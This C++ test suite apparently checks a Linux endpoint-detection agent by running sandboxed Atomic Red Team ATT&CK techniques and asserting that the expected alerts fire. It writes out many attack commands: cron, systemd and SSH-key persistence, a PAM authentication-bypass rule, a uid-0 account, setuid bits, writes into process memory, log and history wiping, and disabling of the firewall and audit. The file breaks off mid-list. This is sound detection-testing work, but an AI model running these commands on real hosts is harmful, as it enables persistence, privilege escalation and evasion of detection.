// The ATT&CK suite: Linux techniques from Atomic Red Team
// (redcanaryco/atomic-red-team, atomics/T*/T*.yaml with supported_platforms:
// linux), run for real on this host as root against one real vigil-agent
// (every probe family, warm-up 0, JSON scored output at threshold 1). Each
// technique asserts the indicator or Sigma rule (rules/vigil) that fires, and
// for high/critical ones that the event scored >= 50 (an alert).
//
// Safety, as the atomics themselves are not: everything happens in a temporary
// directory, as a throwaway account created and deleted here (vgl-art), on
// loopback or in a network namespace made here. System files are appended a
// comment or opened without a change, and every one touched is restored at the
// end of its test and again at teardown. Destructive commands (setenforce,
// systemctl stop, auditctl -D, ufw disable, shutdown, ...) run as a copy of
// /bin/true under the tool's name: the same exec, with its arguments, and no
// effect. Atomics that fetch from the Internet fetch from a local server.
//
// The detection table is printed at exit, and written as Markdown to
// $VIGIL_ATTACK_TABLE if set:
//   sudo VIGIL_ATTACK_TABLE=/tmp/attack.md build/tests/scenarios/vigil_attack_suite
#include <arpa/inet.h>
#include <fcntl.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <pwd.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <atomic>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <thread>

#include "util/net.h"
#include "util/proc.h"
#include "util/test_util.h"

namespace {

using namespace std::chrono_literals;
using nlohmann::json;
using vigil::test::Proc;
using vigil::test::sh;
using vigil::test::wait_until;
namespace fs = std::filesystem;

constexpr const char* kUser = "vgl-art";          // throwaway account (home /home/vgl-art)
constexpr const char* kEvilUser = "vglart-evil";  // created by T1136.001
constexpr const char* kRootUser = "vglart-root0";  // T1136.001 with gid 0 and home /root
constexpr const char* kNs = "vgl-atk-ns";         // throwaway network namespace (T1686)
constexpr const char* kPath = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

// --------------------------------------------------------------- the agent's output

// Scored events (alerts-out at threshold 1), read incrementally.
class EventLog {
 public:
  explicit EventLog(fs::path path) : path_(std::move(path)) {}
  void poll() {
    std::ifstream in(path_);
    in.seekg(static_cast<std::streamoff>(offset_));
    std::string line;
    while (std::getline(in, line)) {
      if (in.eof()) {
        break;  // a line still being written: read it whole next time
      }
      offset_ += line.size() + 1;
      auto j = json::parse(line, nullptr, false);
      if (!j.is_discarded() && j.contains("indicators") && j.contains("event")) {
        lines_.push_back(std::move(j));
      }
    }
  }
  // The highest-scoring event carrying indicator `id` that `pred` accepts.
  [[nodiscard]] std::optional<json> find(const std::string& id,
                                         const std::function<bool(const json&)>& pred) const {
    std::optional<json> best;
    for (const auto& j : lines_) {
      bool has = false;
      for (const auto& i : j["indicators"]) has |= i.value("id", "") == id;
      if (has && pred(j["event"]) && (!best || j["score"] > (*best)["score"])) best = j;
    }
    return best;
  }

 private:
  fs::path path_;
  std::size_t offset_ = 0;
  std::vector<json> lines_;
};

// --------------------------------------------------------------- expectations

struct Expect {
  std::string technique;  // ATT&CK id as Atomic Red Team names it (v19 ids)
  std::string test;       // what ran (the atomic, or the harmless variant of it)
  std::string rule;       // indicator id or Sigma rule name expected to fire
  bool alert = false;     // high/critical: the event must score >= 50
  std::function<bool(const json&)> pred = [](const json&) { return true; };
};

struct Row {
  Expect expect;
  int score = -1;  // -1: not detected
  bool pass = false;
};
std::vector<Row>& rows() {
  static std::vector<Row> r;
  return r;
}

std::string joined_args(const json& e) {
  std::string s;
  for (const auto& a : e.value("args", json::array())) {
    if (!s.empty()) s.push_back(' ');
    s += a.get<std::string>();
  }
  return s;
}
auto args_have(std::string needle) {
  return [needle](const json& e) { return joined_args(e).find(needle) != std::string::npos; };
}
auto path_has(std::string needle) {
  return [needle](const json& e) {
    return e.value("path", "").find(needle) != std::string::npos ||
           e.value("new_path", "").find(needle) != std::string::npos;
  };
}
auto exe_has(std::string needle) {
  return [needle](const json& e) { return e.value("exe", "").find(needle) != std::string::npos; };
}
auto pid_is(pid_t pid) {
  return [pid](const json& e) { return e.value("pid", 0) == pid; };
}

// --------------------------------------------------------------- running commands

struct Account {
  uid_t uid = 0;
  gid_t gid = 0;
  std::string home;
};
std::optional<Account> lookup(const char* name) {
  const passwd* pw = getpwnam(name);
  if (pw == nullptr) return std::nullopt;
  return Account{pw->pw_uid, pw->pw_gid, pw->pw_dir};
}

// Runs `cmd` with `shell -c` (as the throwaway account when `as_user`), with
// `input` on stdin, a fixed PATH, output appended to `log`; killed after
// `timeout`. Returns the exit status (or 128 + signal).
int run(const std::string& cmd, const fs::path& log, bool as_user = false,
        const std::string& input = "", const char* shell = "/bin/sh",
        std::chrono::milliseconds timeout = 20s) {
  int in[2];
  if (pipe(in) != 0) return -1;
  const auto account = as_user ? lookup(kUser) : std::nullopt;
  if (as_user && !account) return -1;
  const pid_t pid = fork();
  if (pid == 0) {
    setpgid(0, 0);
    dup2(in[0], 0);
    close(in[0]);
    close(in[1]);
    const int out = open(log.c_str(), O_WRONLY | O_APPEND | O_CREAT, 0644);
    dup2(out, 1);
    dup2(out, 2);
    setenv("PATH", kPath, 1);
    if (account) {
      if (initgroups(kUser, account->gid) != 0 || setgid(account->gid) != 0 ||
          setuid(account->uid) != 0) {
        _exit(126);
      }
      setenv("HOME", account->home.c_str(), 1);
      setenv("USER", kUser, 1);
      setenv("LOGNAME", kUser, 1);
      if (chdir(account->home.c_str()) != 0) _exit(126);
    }
    execl(shell, shell, "-c", cmd.c_str(), nullptr);
    _exit(127);
  }
  close(in[0]);
  if (!input.empty()) {
    const ssize_t n = write(in[1], input.data(), input.size());
    (void)n;
  }
  close(in[1]);
  const auto deadline = std::chrono::steady_clock::now() + timeout;
  int status = 0;
  while (waitpid(pid, &status, WNOHANG) == 0) {
    if (std::chrono::steady_clock::now() > deadline) {
      kill(-pid, SIGKILL);
      waitpid(pid, &status, 0);
      break;
    }
    std::this_thread::sleep_for(5ms);
  }
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

// --------------------------------------------------------------- system files

// Every system file a technique touches is saved first and put back (content,
// mode, owner) at the end of its test and at teardown; one that did not exist
// is removed.
struct Saved {
  bool existed = false;
  std::string content;
  struct stat st {};
};
std::map<std::string, Saved>& saved() {
  static std::map<std::string, Saved> s;
  return s;
}
void guard(const std::string& path) {
  if (saved().contains(path)) return;
  Saved s;
  if (::stat(path.c_str(), &s.st) == 0) {
    s.existed = true;
    s.content = vigil::test::slurp(path);
  }
  saved()[path] = std::move(s);
}
bool restore_all() {
  bool ok = true;
  for (const auto& [path, s] : saved()) {
    std::error_code ec;
    if (!s.existed) {
      fs::remove(path, ec);
      ok &= !fs::exists(path);
      continue;
    }
    if (vigil::test::slurp(path) != s.content || !fs::exists(path)) {
      std::ofstream(path, std::ios::binary | std::ios::trunc) << s.content;
    }
    ok &= ::chmod(path.c_str(), s.st.st_mode & 07777) == 0;
    ok &= ::chown(path.c_str(), s.st.st_uid, s.st.st_gid) == 0;
    ok &= vigil::test::slurp(path) == s.content;
  }
  saved().clear();
  return ok;
}

// --------------------------------------------------------------- a local web server

// Stands in for the Internet the atomics download from: every request is
// answered with a small shell script, /true with the bytes of /bin/true.
class LocalWebServer {
 public:
  LocalWebServer() {
    if (!listener_.ok()) return;
    script_ = "#!/bin/sh\necho vigil-atomic-payload\n";
    true_bytes_ = vigil::test::slurp("/bin/true");
    thread_ = std::thread([this] { serve(); });
  }
  ~LocalWebServer() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
  }
  LocalWebServer(const LocalWebServer&) = delete;
  LocalWebServer& operator=(const LocalWebServer&) = delete;
  [[nodiscard]] bool ok() const { return listener_.ok(); }
  [[nodiscard]] std::string url(const std::string& path) const {
    return "http://127.0.0.1:" + std::to_string(ntohs(listener_.addr.sin_port)) + path;
  }

 private:
  void serve() {
    while (!stop_) {
      pollfd p{listener_.fd, POLLIN, 0};
      if (poll(&p, 1, 100) <= 0) continue;
      const int c = accept(listener_.fd, nullptr, nullptr);
      if (c < 0) continue;
      std::string req;
      char buf[4096];
      pollfd cp{c, POLLIN, 0};
      while (req.find("\r\n\r\n") == std::string::npos && poll(&cp, 1, 1000) > 0) {
        const ssize_t n = read(c, buf, sizeof(buf));
        if (n <= 0) break;
        req.append(buf, static_cast<std::size_t>(n));
      }
      const bool binary = req.starts_with("GET /true ");
      const std::string& body = binary ? true_bytes_ : script_;
      const std::string resp = "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(body.size()) +
                               "\r\nConnection: close\r\n\r\n" + body;
      std::size_t off = 0;
      while (off < resp.size()) {
        const ssize_t n = write(c, resp.data() + off, resp.size() - off);
        if (n <= 0) break;
        off += static_cast<std::size_t>(n);
      }
      // Drain what the client still sends (an upload) before closing.
      while (poll(&cp, 1, 200) > 0 && read(c, buf, sizeof(buf)) > 0) {
      }
      close(c);
    }
  }

  vigil::test::LoopbackListener listener_{64};
  std::string script_;
  std::string true_bytes_;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

// --------------------------------------------------------------- the fixture

class AttackSuite : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    dir_ = new vigil::test::TempDir();
    fs::permissions(dir_->path(), fs::perms::owner_all | fs::perms::group_read |
                                      fs::perms::group_exec | fs::perms::others_read |
                                      fs::perms::others_exec);
    remove_accounts();
    setup_ok_ = sh(std::string("useradd -m -s /bin/bash -d /home/") + kUser + " " + kUser) &&
                lookup(kUser).has_value();
    sh(std::string("ip netns del ") + kNs);
    setup_ok_ &= sh(std::string("ip netns add ") + kNs);
    // Tools whose atomics would change this host run as a copy of /bin/true
    // under their own name: the exec and its arguments are the same.
    fs::create_directories(dir() / "bin");
    for (const char* stub : {"setenforce", "systemctl", "sysctl", "auditctl", "ufw", "shutdown",
                             "cloudflared"}) {
      std::error_code ec;
      fs::copy_file("/bin/true", dir() / "bin" / stub, fs::copy_options::overwrite_existing, ec);
      setup_ok_ &= !ec;
    }
    web_ = new LocalWebServer();
    fs::create_directories(dir() / "agent" / "run");
    agent_ = new Proc({VIGIL_AGENT_BIN, "--probes", "process,network,memory,file", "--alerts-out",
                       (dir() / "agent" / "scored.jsonl").string(), "--alert-threshold", "1",
                       "--baseline-warmup", "0", "--state-dir", (dir() / "agent" / "state").string(),
                       "--stats-interval", "0"},
                      dir() / "agent" / "run");
    agent_ok_ =
        wait_until([] { return agent_->err().find("running on host") != std::string::npos; }, 180s);
    log_ = new EventLog(dir() / "agent" / "scored.jsonl");
  }

  static void remove_accounts() {
    const std::string user(kUser);
    sh("crontab -r -u " + user);
    sh("for j in $(atq -q a 2>/dev/null | cut -f1); do atrm $j; done");
    sh("pkill -KILL -u " + user);
    sh("userdel -r " + user);
    // Never `userdel -r` these: kRootUser's home is /root.
    sh(std::string("userdel ") + kEvilUser);
    sh(std::string("userdel ") + kRootUser);
  }

  static void TearDownTestSuite() {
    if (agent_ != nullptr) {
      kill(agent_->pid(), SIGINT);
      agent_->wait_for(30s);
    }
    delete agent_;
    agent_ = nullptr;
    delete web_;
    web_ = nullptr;
    restore_all();
    if (::geteuid() == 0) {
      remove_accounts();
      sh(std::string("ip netns del ") + kNs);
      for (const char* p : {"/root/vglart-hist", "/var/log/vglart-test.log",
                            "/var/log/vglart-secure.log", "/var/log/vglart-syslog.log"}) {
        std::error_code ec;
        fs::remove_all(p, ec);
      }
    }
    delete log_;
    log_ = nullptr;
    delete dir_;
    dir_ = nullptr;
  }

  void SetUp() override {
    REQUIRE_ROOT_OR_SKIP();
    ASSERT_TRUE(setup_ok_) << "throwaway account, network namespace or stubs not set up";
    ASSERT_TRUE(agent_ok_) << "agent did not start: " << agent_->err();
    ASSERT_TRUE(web_->ok());
  }
  void TearDown() override {
    if (::geteuid() == 0) {
      EXPECT_TRUE(restore_all()) << "a system file was not restored";
    }
  }

  static fs::path dir() { return dir_->path(); }
  static std::string d() { return dir().string(); }
  static fs::path cmd_log() { return dir() / "commands.log"; }
  static int root(const std::string& cmd, const std::string& input = "") {
    return run(cmd, cmd_log(), false, input);
  }
  static int bash(const std::string& cmd, const std::string& input = "") {
    return run(cmd, cmd_log(), false, input, "/bin/bash");
  }
  static int user(const std::string& cmd, const std::string& input = "") {
    return run(cmd, cmd_log(), true, input);
  }
  static std::string home() { return std::string("/home/") + kUser; }

  // Waits until every expectation is met (or `timeout`), then records and checks each.
  static void check(const std::vector<Expect>& expects, std::chrono::milliseconds timeout = 10s) {
    std::vector<std::optional<json>> hits(expects.size());
    auto met = [&](std::size_t i) {
      return hits[i] && (!expects[i].alert || (*hits[i])["score"].get<int>() >= 50);
    };
    wait_until(
        [&] {
          log_->poll();
          bool all = true;
          for (std::size_t i = 0; i < expects.size(); ++i) {
            if (!met(i)) hits[i] = log_->find(expects[i].rule, expects[i].pred);
            all &= met(i);
          }
          return all;
        },
        timeout);
    for (std::size_t i = 0; i < expects.size(); ++i) {
      const auto& e = expects[i];
      Row row{e, hits[i] ? (*hits[i])["score"].get<int>() : -1, met(i)};
      rows().push_back(row);
      EXPECT_TRUE(hits[i].has_value())
          << e.technique << " (" << e.test << "): no event with indicator " << e.rule;
      if (hits[i] && e.alert) {
        EXPECT_GE(row.score, 50) << e.technique << " (" << e.test << "): " << e.rule
                                 << " is high/critical but did not alert";
      }
    }
  }

  static inline vigil::test::TempDir* dir_ = nullptr;
  static inline Proc* agent_ = nullptr;
  static inline bool agent_ok_ = false;
  static inline bool setup_ok_ = false;
  static inline EventLog* log_ = nullptr;
  static inline LocalWebServer* web_ = nullptr;
};

// --------------------------------------------------------------- persistence

TEST_F(AttackSuite, Persistence) {
  const std::string h = home();
  // T1053.003 Cron: a file in /etc/cron.d, and `crontab FILE` by an account.
  guard("/etc/cron.d/vglart-persistevil");
  root("echo '*/5 * * * * root echo \"Hello from Atomic Red Team\" > /tmp/atomic.log' > "
       "/etc/cron.d/vglart-persistevil");
  user("echo '* * * * * /tmp/evil.sh' > $HOME/persistevil && crontab $HOME/persistevil");
  // T1053.002 At: a job for later (no atd needs to run: the spool file is the persistence).
  user("echo 'echo Hello from Atomic Red Team' | at now + 30 minutes");
  // T1053.006 Systemd timers: a service and a timer in /etc/systemd/system (never
  // enabled), and a user-level transient timer (fails without a user bus: same exec).
  guard("/etc/systemd/system/vglart-timer.service");
  guard("/etc/systemd/system/vglart-timer.timer");
  root("printf '[Unit]\\nDescription=Atomic Red Team Systemd Timer Service\\n[Service]\\n"
       "Type=simple\\nExecStart=/bin/touch /tmp/art-systemd-timer-marker\\n' > "
       "/etc/systemd/system/vglart-timer.service && printf '[Unit]\\nDescription=Atomic\\n"
       "[Timer]\\nOnUnitActiveSec=10s\\n' > /etc/systemd/system/vglart-timer.timer");
  user("systemd-run --user --unit=vglart-Atomic-Red-Team --on-calendar '*:0/1' /bin/sh -c "
       "'echo \"$(date) $(whoami)\" >> /tmp/log'");
  // T1543.002 SysV service: a script in /etc/init.d (never registered).
  guard("/etc/init.d/vglart-T1543.002");
  root("printf '#!/bin/bash\\n### BEGIN INIT INFO\\n# Provides : Atomic Test T1543.002\\n"
       "### END INIT INFO\\n' > /etc/init.d/vglart-T1543.002");
  // T1037.004 RC scripts: /etc/rc.local gets a comment line.
  guard("/etc/rc.local");
  root("echo '# vigil attack suite T1037.004' >> /etc/rc.local");
  // T1546.004 Shell configuration: the account's .bashrc and .bash_logout, and /etc/profile.d.
  user("echo 'echo \"Hello from Atomic Red Team T1546.004\" > /tmp/T1546.004' >> ~/.bashrc");
  user("echo 'echo \"Atomic Red Team was here... T1546.004\" >> ~/art.txt' >> ~/.bash_logout");
  guard("/etc/profile.d/vglart-T1546.004.sh");
  root("echo '# Atomic Red Team was here... T1546.004' >> /etc/profile.d/vglart-T1546.004.sh");
  // T1098.004 SSH authorized keys (a key nobody holds).
  user("mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeFakeFakeFakeFakeFakeFake "
       "vigil' >> ~/.ssh/authorized_keys");
  // T1547.006 Kernel modules: insmod of a module in /tmp (there is none: insmod
  // fails, the exec is the same), and a module-load configuration (a comment).
  root("insmod " + d() + "/T1547.006/T1547006.ko");
  guard("/etc/modules-load.d/vglart.conf");
  root("echo '# vigil attack suite T1547.006' > /etc/modules-load.d/vglart.conf");
  // T1014 Rootkit: loadable kernel module based rootkit (insmod of T1014.ko).
  root("insmod " + d() + "/bin/T1014.ko");
  // T1546.018 Python startup hooks: usercustomize.py in the account's site-packages.
  user("P=$(python3 -c 'import site; print(site.getusersitepackages())') && mkdir -p \"$P\" && "
       "echo '# vigil attack suite T1546.018' > \"$P/usercustomize.py\" && "
       "python3 -c \"print('Triggering Hook via usercustomize.py...')\"");
  // T1569.003 Systemctl: a unit in /tmp linked into systemd (stub systemctl).
  root("printf '[Service]\\nExecStart=/bin/bash -c \"id > /tmp/x\"\\n' > " + d() +
       "/atomic_tmp.service && " + d() + "/bin/systemctl link " + d() + "/atomic_tmp.service");
  // T1546.005 Trap: a trap starting a program on EXIT.
  root("echo 'echo art-fish' > " + d() + "/echo-art-fish.sh");
  bash("bash -c 'trap \"nohup sh " + d() + "/echo-art-fish.sh\" EXIT'");

  check({
      {"T1053.003", "echo ... > /etc/cron.d/persistevil", "cron-write", true,
       path_has("vglart-persistevil")},
      {"T1053.003", "crontab FILE (as an account)", "crontab-replace", false,
       args_have("persistevil")},
      {"T1053.002", "echo ... | at now + 30 minutes", "at-job-scheduled", false, exe_has("/at")},
      {"T1053.002", "the at spool file", "at-job-write", false, path_has("/atjobs/")},
      {"T1053.006", "service + timer in /etc/systemd/system", "systemd-unit-write", true,
       path_has("/etc/systemd/system/vglart-timer.")},
      {"T1053.006", "systemd-run --user --on-calendar", "systemd-run-transient", false,
       args_have("--on-calendar")},
      {"T1543.002", "script in /etc/init.d", "sysv-init-script-write", true,
       path_has("vglart-T1543.002")},
      {"T1037.004", "line appended to /etc/rc.local", "rc-script-write", true,
       path_has("/etc/rc.local")},
      {"T1546.004", "line appended to ~/.bashrc", "shell-rc-write", false, path_has("/.bashrc")},
      {"T1546.004", "line appended to ~/.bash_logout", "shell-startup-write", false,
       path_has("/.bash_logout")},
      {"T1546.004", "script in /etc/profile.d", "shell-rc-write", false,
       path_has("vglart-T1546.004.sh")},
      {"T1098.004", "key appended to ~/.ssh/authorized_keys", "authorized-keys-write", true,
       path_has("authorized_keys")},
      {"T1547.006", "insmod /tmp/.../T1547006.ko", "kernel-module-load-writable", true,
       args_have("T1547006.ko")},
      {"T1547.006", "file in /etc/modules-load.d", "kernel-module-config-write", true,
       path_has("vglart.conf")},
      {"T1014", "insmod of a rootkit module from /tmp", "kernel-module-load-writable", true,
       args_have("T1014.ko")},
      {"T1546.018", "usercustomize.py in user site-packages", "python-startup-hook-write", true,
       path_has("usercustomize.py")},
      {"T1569.003", "systemctl link /tmp/atomic_tmp.service", "systemctl-link-writable", true,
       args_have("atomic_tmp.service")},
      {"T1546.005", "bash -c 'trap \"nohup sh ...\" EXIT'", "shell-trap-command", false,
       args_have("trap")},
  });
}

// --------------------------------------------------------------- privilege escalation, accounts

TEST_F(AttackSuite, PrivilegeEscalationAndAccounts) {
  // T1574.006 LD_PRELOAD: /etc/ld.so.preload opened for appending with nothing
  // written (the preload list does not change), and LD_PRELOAD of a library in
  // /tmp on a command line (there is none: ld.so ignores it).
  guard("/etc/ld.so.preload");
  root(": >> /etc/ld.so.preload");
  bash("LD_PRELOAD=" + d() + "/T1574006.so ls >/dev/null");
  // T1556.003 PAM: the malicious rule, inserted with sed -i into a copy of su-l
  // under a service name nothing uses; a module file where PAM modules live.
  guard("/etc/pam.d/vglart-su-l");
  root("cp /etc/pam.d/su-l /etc/pam.d/vglart-su-l && sed -i "
       "\"1s,^,auth sufficient pam_succeed_if.so uid >= 0\\n,g\" /etc/pam.d/vglart-su-l");
  const std::string pam_dir = "/usr/lib/x86_64-linux-gnu/security";
  if (fs::is_directory(pam_dir)) {
    guard(pam_dir + "/pam_vglart.so");
    root("cp /bin/true " + pam_dir + "/pam_vglart.so");
  }
  // T1548.003 Sudo: a comment appended to /etc/sudoers, then visudo -c.
  guard("/etc/sudoers");
  root("echo '# vigil attack suite T1548.003: Defaults !tty_tickets' >> /etc/sudoers && "
       "visudo -c -f /etc/sudoers");
  // T1548.001 Setuid and setgid: chmod u+xs, setcap cap_setuid, the search for set-uid files.
  root("touch " + d() + "/evilBinary && chown root " + d() + "/evilBinary && chmod u+xs " + d() +
       "/evilBinary");
  root("touch " + d() + "/evilCap && setcap cap_setuid=ep " + d() + "/evilCap");
  user("find /usr/bin -perm -4000");
  // T1136.001 Local account: a user, a user with gid 0 and home /root (deleted at
  // teardown, never with -r), and /etc/passwd opened for appending by a shell.
  root(std::string("useradd -M -N -r -s /bin/bash -c evil_account ") + kEvilUser);
  root(std::string("useradd -g 0 -M -d /root -s /bin/bash ") + kRootUser);
  root(": >> /etc/passwd");
  // T1078.003 Local accounts: reactivate a locked and expired account.
  root(std::string("usermod --lock ") + kUser + " && usermod --expiredate 1 " + kUser +
       " && usermod --unlock " + kUser + " && usermod --expiredate 99999 " + kUser);
  // T1531 Account access removal: the account's password changed, then locked.
  root("chpasswd", std::string(kUser) + ":Vigil-Attack-1\n");
  root(std::string("passwd -l ") + kUser);
  // T1055.009 Proc memory: write into a child's memory through /proc/PID/mem.
  static char target[64] = "untouched";
  const pid_t child = fork();
  if (child == 0) {
    pause();
    _exit(0);
  }
  const int mem = open(("/proc/" + std::to_string(child) + "/mem").c_str(), O_RDWR);
  EXPECT_GE(mem, 0);
  EXPECT_EQ(pwrite(mem, "injected", 8, reinterpret_cast<off_t>(&target[0])), 8);
  close(mem);
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  // T1553.004 Install root certificate (Debian): a certificate file in
  // /usr/local/share/ca-certificates; update-ca-certificates is not run.
  guard("/usr/local/share/ca-certificates/vglart-rootCA.crt");
  root("printf -- '-----BEGIN CERTIFICATE-----\\nvigil attack suite\\n-----END CERTIFICATE-----\\n' "
       "> /usr/local/share/ca-certificates/vglart-rootCA.crt");

  std::vector<Expect> expects = {
      {"T1574.006", "/etc/ld.so.preload opened for appending", "ld-preload-write", true,
       path_has("/etc/ld.so.preload")},
      {"T1574.006", "LD_PRELOAD=/tmp/.../T1574006.so ls", "ld-preload-env-writable", true,
       args_have("T1574006.so")},
      {"T1556.003", "sed -i inserting pam_succeed_if into a PAM service", "pam-config-write", true,
       path_has("/etc/pam.d/")},
      {"T1548.003", "comment appended to /etc/sudoers", "sudoers-write", true,
       path_has("/etc/sudoers")},
      {"T1548.001", "chmod u+xs /tmp/.../evilBinary", "setuid-bit-set", true,
       path_has("evilBinary")},
      {"T1548.001", "setcap cap_setuid=ep", "setcap-privileged", true, args_have("cap_setuid")},
      {"T1548.001", "find /usr/bin -perm -4000", "suid-binary-discovery", false,
       args_have("-4000")},
      {"T1136.001", "useradd -M -N -r -s /bin/bash", "account-created", false,
       args_have(kEvilUser)},
      {"T1136.001", "useradd -g 0 -M -d /root", "account-root-ids", true, args_have(kRootUser)},
      {"T1136.001", "/etc/passwd opened for appending by a shell", "account-file-write", true,
       path_has("/etc/passwd")},
      {"T1078.003", "usermod --unlock / --expiredate 99999", "account-unlocked", false,
       args_have("--unlock")},
      {"T1531", "chpasswd for the account", "account-password-set", false, exe_has("chpasswd")},
      {"T1531", "passwd -l ACCOUNT", "account-password-set", false, args_have("-l")},
      {"T1055.009", "write into a child through /proc/PID/mem", "inject-proc-mem", true,
       pid_is(getpid())},
      {"T1553.004", "certificate in /usr/local/share/ca-certificates", "ca-certificate-write",
       false, path_has("vglart-rootCA.crt")},
  };
  if (fs::is_directory(pam_dir)) {
    expects.push_back({"T1556.003", "module file in lib/security", "pam-module-write", true,
                       path_has("pam_vglart.so")});
  }
  check(expects);
}

// --------------------------------------------------------------- defense evasion

TEST_F(AttackSuite, DefenseEvasion) {
  const std::string h = home();
  // T1070.003 Clear command history: rm of the account's history file, the
  // builtins through bash -c, and truncate + rm of a history file under /root
  // (a directory made for it: root's own history is not touched).
  user("echo 'ssh -p secret host' > ~/.bash_history && rm ~/.bash_history");
  bash("unset HISTFILE; export HISTFILESIZE=0; history -c");
  root("mkdir -p /root/vglart-hist && echo 'ls' > /root/vglart-hist/.bash_history && "
       "truncate -s0 /root/vglart-hist/.bash_history && rm /root/vglart-hist/.bash_history");
  // T1690 Prevent command history logging: HISTFILE=/dev/null.
  bash("export HISTFILE=\"/dev/null\"; whoami; groups");
  // T1685.006 Clear Linux system logs: truncate, overwrite, rm of logs made here.
  root("echo 'log line' > /var/log/vglart-test.log && truncate -s 0 /var/log/vglart-test.log");
  root("echo 'log line' > /var/log/vglart-secure.log && echo 0> /var/log/vglart-secure.log");
  root("rm -rf /var/log/vglart-test.log /var/log/vglart-secure.log");
  // T1685 Disable or modify tools (stubs: nothing is disabled), and journald.conf
  // rewritten by sed -i with a substitution that changes nothing.
  root(d() + "/bin/setenforce 0");
  root(d() + "/bin/systemctl stop systemd-journald");
  root(d() + "/bin/sysctl -w kernel.randomize_va_space=0");
  guard("/etc/systemd/journald.conf");
  root("sed -i 's/^#Storage=auto$/#Storage=auto/' /etc/systemd/journald.conf");
  // T1685.004 Linux audit: auditctl -D, auditctl -e 0 (stub).
  root(d() + "/bin/auditctl -D && " + d() + "/bin/auditctl -e 0");
  // T1686 Firewall: iptables -F for real, in a network namespace made for it;
  // ufw disable (stub).
  root(std::string("ip netns exec ") + kNs + " /usr/sbin/iptables -F");
  root(d() + "/bin/ufw disable");
  // T1222.002 Permissions: chattr -i.
  root("touch " + d() + "/T1222.002.txt && chattr -i " + d() + "/T1222.002.txt");
  // T1070.006 Timestomp.
  root("touch " + d() + "/T1070.006-access.txt && touch -a -t 197001010000.00 " + d() +
       "/T1070.006-access.txt");
  // T1070.004 File deletion with shred.
  root("echo secret > " + d() + "/victim-shred.txt && shred -u " + d() + "/victim-shred.txt");
  // T1036.003 Rename system utilities: a shell copied to /tmp as crond.
  root("cp /bin/sh " + d() + "/crond && echo 'sleep 0.1' | " + d() + "/crond");
  // T1036.005 Match legitimate name: $HOME/.../sh.
  user("mkdir -p $HOME/... && cp $(which sh) $HOME/... && $HOME/.../sh -c 'echo T1036.005'");
  // T1036.006 Space after filename.
  root("mkdir -p '" + d() + "/testdirwithspaceend ' && cp /bin/true '" + d() +
       "/testdirwithspaceend /init ' && '" + d() + "/testdirwithspaceend /init '");
  // T1036.007 Double file extension.
  root("printf '#!/bin/sh\\necho Simulating malicious double extension execution\\n' > " + d() +
       "/report.pdf.sh && chmod +x " + d() + "/report.pdf.sh && " + d() + "/report.pdf.sh");
  // T1036.008 Masquerade file type.
  root("printf '#!/bin/sh\\necho Running script masked as PNG\\n' > " + d() + "/image.png && sh " +
       d() + "/image.png");
  // T1027 Decode base64 data into a script, make it executable, run it.
  root("echo 'IyEvYmluL3NoCmVjaG8gSGVsbG8gZnJvbSB0aGUgQXRvbWljIFJlZCBUZWFtCg==' > " + d() +
       "/encoded.dat && cat " + d() + "/encoded.dat | base64 -d > " + d() + "/art.sh; chmod +x " +
       d() + "/art.sh; " + d() + "/art.sh");
  // T1140 Deobfuscate: a base64 shebang script piped into a shell.
  root("echo IyEvYmluL3NoCmVjaG8gIlQxMTQwIgo= | base64 -d | sh");
  // T1001.002 Steganography: a script base64-encoded at the end of an image, extracted and run.
  root("cp /bin/true " + d() + "/image.jpg && echo 'echo T1001.002' > " + d() +
       "/script.sh && cat " + d() + "/script.sh | base64 | cat " + d() + "/image.jpg - > " + d() +
       "/evil_image.jpg; strings " + d() + "/evil_image.jpg | tail -n 1 | base64 -d | sh");

  check({
      {"T1070.003", "rm ~/.bash_history", "history-clear", true, args_have(".bash_history")},
      {"T1070.003", "unset HISTFILE; history -c (bash -c)", "history-clear", true,
       args_have("history -c")},
      {"T1070.003", "truncate -s0 of a .bash_history under /root", "history-tamper", true,
       [](const json& e) { return e.value("op", "") == "truncate"; }},
      {"T1070.003", "rm of a .bash_history under /root", "history-tamper", true,
       [](const json& e) { return e.value("op", "") == "unlink"; }},
      {"T1690", "export HISTFILE=/dev/null", "history-disable", true, args_have("HISTFILE")},
      {"T1685.006", "truncate -s 0 /var/log/...", "system-log-cleared", false,
       args_have("truncate")},
      {"T1685.006", "echo 0> /var/log/...", "system-log-wiped", true, args_have("echo 0>")},
      {"T1685", "setenforce 0", "selinux-apparmor-disabled", true, args_have("setenforce")},
      {"T1685", "systemctl stop systemd-journald", "security-service-stopped", true,
       args_have("journald")},
      {"T1685", "sysctl -w kernel.randomize_va_space=0", "aslr-disabled", true,
       args_have("randomize_va_space")},
      {"T1685", "sed -i on /etc/systemd/journald.conf", "logging-config-write", false,
       path_has("journald.conf")},
      {"T1685.004", "auditctl -D", "audit-disabled", true, args_have("-D")},
      {"T1686", "iptables -F (in a throwaway netns)", "firewall-disabled", true, args_have("-F")},
      {"T1686", "ufw disable", "firewall-disabled", true, args_have("disable")},
      {"T1222.002", "chattr -i", "chattr-immutable-change", false, args_have("T1222.002")},
      {"T1070.006", "touch -a -t 197001010000.00", "timestomp", false, args_have("1970")},
      {"T1070.004", "shred -u", "secure-delete", false, args_have("victim-shred")},
      {"T1036.003", "/tmp/.../crond (a copy of sh)", "masquerade-daemon-name", true,
       exe_has("/crond")},
      {"T1036.005", "$HOME/.../sh", "exec-from-hidden-location", true, exe_has("/.../")},
      {"T1036.006", "'testdirwithspaceend /init '", "exec-trailing-space", true,
       exe_has("init ")},
      {"T1036.007", "report.pdf.sh executed", "double-extension-exec", true,
       exe_has("report.pdf.sh")},
      {"T1036.008", "sh image.png", "shell-runs-non-script-file", false, args_have("image.png")},
      {"T1027", "base64 -d > art.sh; chmod +x; run", "base64-decoded-execution", true,
